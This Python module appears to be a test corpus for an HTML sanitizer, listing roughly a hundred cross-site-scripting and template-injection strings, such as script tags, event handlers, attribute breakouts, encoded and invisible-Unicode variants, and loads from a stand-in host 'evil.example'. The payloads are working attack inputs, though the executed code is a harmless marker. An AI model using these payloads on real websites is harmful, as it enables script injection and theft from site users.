"""A hundred texts that would run or load something, if a page took them for more than text."""

from __future__ import annotations

EVIL = "http://evil.example"
RUN = "top.pwned=1"


def _texts(block: str) -> list[str]:
    """One text a line; RUN stands for code that leaves a trace, EVIL for an address that must never
    be asked."""
    return [line.replace("RUN", RUN).replace("EVIL", EVIL) for line in block.strip().splitlines()]


TAGS = _texts("""
<script>RUN</script>
<ScRiPt>RUN</sCrIpT>
<script >RUN</script >
<script src=EVIL/a.js></script>
<script src="data:text/javascript,RUN"></script>
<script type=module>RUN</script>
<script>RUN//
<<script>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script/x>RUN</script>
<script>/*</script><script>*/RUN</script>
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"></script></svg>
<math><mtext><script>RUN</script></mtext></math>
<noscript><p title="</noscript><script>RUN</script>">
<template><script>RUN</script></template>
<textarea><script>RUN</script></textarea>
</textarea><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
--><script>RUN</script><!--
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><script>RUN</script>
</td></tr></table><script>RUN</script>
</bdi></a></li></ol><script>RUN</script>
</text></svg><script>RUN</script>
</desc></svg><script>RUN</script>
</code></dd></dl><script>RUN</script>
</option></select><script>RUN</script>
""")

HANDLERS = _texts("""
<img src=x onerror=RUN>
<img src=EVIL/pixel.gif>
<img/src="x"/onerror="RUN">
<img src=x onerror=&#116;&#111;&#112;.pwned=1>
<image src=x onerror=RUN>
<svg onload=RUN>
<svg/onload=RUN//
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:RUN>
<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x">
<svg><image href=EVIL/pixel.svg>
<svg><foreignObject><body onload=RUN></foreignObject></svg>
<body onload=RUN>
<details open ontoggle=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<video src=x onerror=RUN>
<video><source onerror=RUN></video>
<audio src=EVIL/a.mp3 autoplay onerror=RUN>
<marquee onstart=RUN>x</marquee>
<object data=EVIL/a.swf></object>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src=EVIL/a.swf>
<iframe src=EVIL/frame></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<iframe src="javascript:RUN"></iframe>
<a href="javascript:RUN" autofocus>x</a>
<a href=" &#14; javascript:RUN">x</a>
<form action=EVIL/post><button autofocus>x</button></form>
<isindex type=image src=x onerror=RUN>
<keygen autofocus onfocus=RUN>
<link rel=stylesheet href=EVIL/a.css>
<link rel=preload as=script href=EVIL/a.js>
<link rel=dns-prefetch href=EVIL>
<meta http-equiv=refresh content="0;url=EVIL/">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<base href=EVIL/>
<style>@import "EVIL/a.css";</style>
<style>*{background:url(EVIL/b.png)}</style>
<p style="background:url(EVIL/c.png)">x</p>
<table background=EVIL/d.png><tr><td>x</table>
<x onclick=RUN tabindex=1 autofocus onfocus=RUN>x
""")

BREAKS = _texts("""
" onmouseover="RUN" autofocus onfocus="RUN" x="
' onmouseover='RUN' autofocus onfocus='RUN' x='
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
` onfocus=RUN autofocus x=`
"/><svg onload=RUN>
\\"><script>RUN</script>
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
{{ ''.__class__.__mro__[1].__subclasses__() }}<script>RUN</script>
{% include 'http://evil.example' %}{{ 7*7 }}{{ config }}
${RUN}#{RUN}<%= RUN %>
[link](javascript:RUN) ![image](EVIL/e.png)
javascript:RUN
JaVaScRiPt:RUN//EVIL
data:text/html,<script>RUN</script>
vbscript:RUN
//evil.example/"><script>RUN</script>
https://evil.example/" onfocus="RUN" autofocus="
https://user:word@evil.example/<script>RUN</script>
http://evil.example\\@127.0.0.1/'><script>RUN</script>
""")

UNSEEN = [
    f"\u202e<script>{RUN}</script>",
    f"<scr\u200bipt>{RUN}</scr\u200bipt><img src=x onerror={RUN}>",
    f"\ufeff<svg onload={RUN}>",
    f"＜script＞{RUN}＜/script＞<script\u2028>{RUN}</script>",
    f"<img src=x\u00a0onerror={RUN}>\U000e0041\U000e0042",
]

TEXTS = [*TAGS, *HANDLERS, *BREAKS, *UNSEEN]
